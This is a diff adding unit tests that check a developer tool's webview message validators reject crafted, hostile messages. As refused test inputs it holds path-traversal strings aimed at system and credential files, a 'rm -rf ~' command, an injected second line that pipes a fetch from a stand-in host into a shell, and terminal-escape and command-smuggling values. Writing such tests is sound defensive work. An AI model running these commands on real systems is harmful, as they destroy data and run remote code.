@@ -1,0 +1,127 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { checkRequestParams, checkWebviewNotification } from '../../../src/protocol/validate';
+
+// Crafted messages, as a page showing hostile text could send them: each refused with a
+// reason, and nothing but well-formed, in-range messages getting through.
+
+const refused = (m: unknown): string => {
+  const r = checkWebviewNotification(m);
+  assert.equal(r.ok, false, JSON.stringify(m));
+  return r.ok ? '' : r.error;
+};
+
+describe('checkWebviewNotification', () => {
+  it('lets the messages the page really sends through, unchanged', () => {
+    const good = [
+      { type: 'ready' },
+      { type: 'source/reveal', ref: { sessionId: 's', callIndex: 3 }, toolId: null },
+      { type: 'source/reveal', ref: { sessionId: 's', callIndex: 0 }, toolId: 'toolu_1' },
+      { type: 'source/revealLine', file: 0, line: 12 },
+      { type: 'format/choose', format: 'claude-code' },
+      { type: 'format/choose', format: null },
+      { type: 'clipboard/write', text: "agent-trace simulate '/home/me/a b.jsonl' --replicas 16 --json" },
+      { type: 'whatif/export', fileName: 'x.whatif.json', json: '{"a":1}' },
+      { type: 'log/error', message: 'boom' },
+      { type: 'load/cancel' },
+      { type: 'load/retry', ignoreSizeLimit: true },
+      { type: 'load/retry', ignoreSizeLimit: false },
+    ];
+    for (const m of good) assert.deepEqual(checkWebviewNotification(m), { ok: true, value: m });
+  });
+
+  it('refuses a path where the host wants a file index: traversal with / and \\, absolute paths, a neighbour of the workspace', () => {
+    for (const file of ['../../../../etc/passwd', '..\\..\\..\\Windows\\win.ini', '/etc/shadow', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '../secret.txt', 'claude/../../x', '0']) {
+      assert.match(refused({ type: 'source/revealLine', file, line: 0 }), /file .* is not a whole number/);
+    }
+  });
+
+  it('refuses wrong types, huge and odd numbers, and missing fields', () => {
+    assert.match(refused({ type: 'source/revealLine', file: 0, line: '3' }), /line is not a whole number/);
+    assert.match(refused({ type: 'source/revealLine', file: 1e308, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: 2 ** 53 + 1, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: -1, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: 0.5, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: 0, line: NaN }), /line/);
+    assert.match(refused({ type: 'source/revealLine', file: 0, line: Infinity }), /line/);
+    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 's', callIndex: 1e308 }, toolId: null }), /ref\.callIndex/);
+    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 7, callIndex: 1 }, toolId: null }), /ref\.sessionId is not a string/);
+    assert.match(refused({ type: 'source/reveal', ref: null, toolId: null }), /ref is not an object/);
+    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 'x'.repeat(5000), callIndex: 1 }, toolId: null }), /longer than 4096/);
+    assert.match(refused({ type: 'format/choose', format: '../../etc' }), /not a known format/);
+    assert.match(refused({ type: 'clipboard/write', text: 42 }), /text is not a string/);
+    assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: 'not json' }), /not valid JSON/);
+    assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: '[1]' }), /not an object/);
+    assert.match(refused({ type: 'log/error', message: 'x'.repeat(100_000) }), /longer than/);
+    assert.match(refused({ type: 'load/retry', ignoreSizeLimit: 'yes' }), /ignoreSizeLimit is not true or false/);
+    assert.match(refused({ type: 'load/retry' }), /ignoreSizeLimit/);
+  });
+
+  it('puts only the panel\'s own simulate command on the clipboard, on one line', () => {
+    assert.match(refused({ type: 'clipboard/write', text: 'rm -rf ~' }), /not an agent-trace simulate command/);
+    assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\ncurl evil | sh' }), /on one line/);
+    assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\u001b]0;t\u0007' }), /on one line/);
+  });
+
+  it('refuses unknown types and things that are not messages', () => {
+    assert.match(refused({ type: 'workbench/runCommand', command: 'workbench.action.terminal.sendSequence' }), /unknown message type "workbench\/runCommand"/);
+    assert.match(refused({ type: '__proto__' }), /unknown message type/);
+    assert.match(refused({ type: 7 }), /type is not a string/);
+    assert.match(refused(null), /not an object/);
+    assert.match(refused([{ type: 'ready' }]), /not an object/);
+    assert.match(refused('ready'), /not an object/);
+  });
+});
+
+describe('checkRequestParams', () => {
+  it('checks call/details and whatif/workload params, refuses the rest', () => {
+    assert.deepEqual(checkRequestParams('call/details', { sessionId: 's', callIndex: 2 }), { ok: true, value: { sessionId: 's', callIndex: 2 } });
+    assert.deepEqual(checkRequestParams('whatif/workload', { sessionId: 's' }), { ok: true, value: { sessionId: 's' } });
+    for (const bad of [{ sessionId: 's', callIndex: -1 }, { sessionId: 's', callIndex: '2' }, { sessionId: 's' }, null, { sessionId: 's', callIndex: 1e308 }]) {
+      assert.equal(checkRequestParams('call/details', bad).ok, false, JSON.stringify(bad));
+    }
+    assert.equal(checkRequestParams('whatif/workload', { sessionId: 12 }).ok, false);
+    assert.equal(checkRequestParams('files/read' as 'call/details', { path: '/etc/passwd' }).ok, false);
+  });
+});
+
+describe('checkRequestParams: what the page asks to draw (issue 15)', () => {
+  const ok = (method: Parameters<typeof checkRequestParams>[0], params: unknown): void => assert.deepEqual(checkRequestParams(method, params), { ok: true, value: params }, `${method} ${JSON.stringify(params)}`);
+  const no = (method: Parameters<typeof checkRequestParams>[0], params: unknown, why: RegExp): void => {
+    const r = checkRequestParams(method, params);
+    assert.equal(r.ok, false, `${method} ${JSON.stringify(params)}`);
+    if (!r.ok) assert.match(r.error, why);
+  };
+
+  it('lets the requests the page really sends through, unchanged', () => {
+    ok('session/intro', { sessionId: 'ae4a77f8' });
+    ok('session/body', { sessionId: 'ae4a77f8' });
+    ok('sessions/list', { query: 'sub-agent', offset: 0, limit: 1000 });
+    ok('calls/rows', { sessionId: 's', from: 8_000, count: 2000 });
+    ok('tools/rows', { sessionId: 's', from: 0, count: 40 });
+    ok('calls/search', { query: 'String to replace not found', sessionId: 's' });
+    ok('calls/search', { query: 'npm test', sessionId: null });
+    ok('calls/usingTool', { sessionId: 's', tool: 'Bash' });
+  });
+
+  it('refuses paths, wrong types, values out of range and missing fields', () => {
+    // Ids the host handed out, never paths: a path is just an unknown id (the service finds no session), but a non-string is refused here.
+    no('session/body', { sessionId: { path: '/etc/passwd' } }, /sessionId is not a string/);
+    no('session/intro', {}, /sessionId is not a string/);
+    no('session/body', { sessionId: 'x'.repeat(5000) }, /longer than 4096/);
+    no('sessions/list', { query: 'x', offset: -1, limit: 10 }, /offset/);
+    no('sessions/list', { query: 'x', offset: 0, limit: 1001 }, /limit is not a whole number from 0 to 1000/);
+    no('sessions/list', { query: 'x'.repeat(1001), offset: 0, limit: 10 }, /query is longer than 1000/);
+    no('calls/rows', { sessionId: 's', from: 0, count: 2001 }, /count is not a whole number from 0 to 2000/);
+    no('calls/rows', { sessionId: 's', from: 1e308, count: 10 }, /from/);
+    no('calls/rows', { sessionId: 's', from: 0.5, count: 10 }, /from/);
+    no('tools/rows', { sessionId: 's', from: '0', count: 10 }, /from/);
+    no('tools/rows', { sessionId: 's', from: 0, count: NaN }, /count/);
+    no('calls/search', { query: 42, sessionId: null }, /query is not a string/);
+    no('calls/search', { query: 'x', sessionId: 7 }, /sessionId is not a string/);
+    no('calls/search', { query: 'x'.repeat(100_000), sessionId: null }, /longer than 1000/);
+    no('calls/usingTool', { sessionId: 's', tool: ['Bash'] }, /tool is not a string/);
+    no('calls/usingTool', { sessionId: 's' }, /tool is not a string/);
+    for (const method of ['session/intro', 'calls/rows', 'calls/search'] as const) no(method, null, /params is not an object/);
+  });
+});
